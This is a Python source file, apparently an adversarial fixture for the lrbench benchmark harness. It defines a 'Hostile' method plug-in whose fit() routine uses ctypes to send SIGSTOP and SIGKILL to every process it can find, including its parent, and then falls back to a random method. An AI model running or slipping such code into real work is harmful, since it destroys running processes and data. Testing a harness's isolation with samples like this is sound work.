"""Stops and kills every process that it can, past Python."""

import ctypes
import os
import signal

import lrbench


class Hostile(lrbench.Method):
    def fit(self, view, seed=0):
        own = os.getpid()
        names = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else []
        for target in {os.getppid(), *names} - {0, own}:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                ctypes.CDLL(None).kill(target, number)
        return lrbench.load_method("random").fit(view, seed)


METHOD = Hostile()
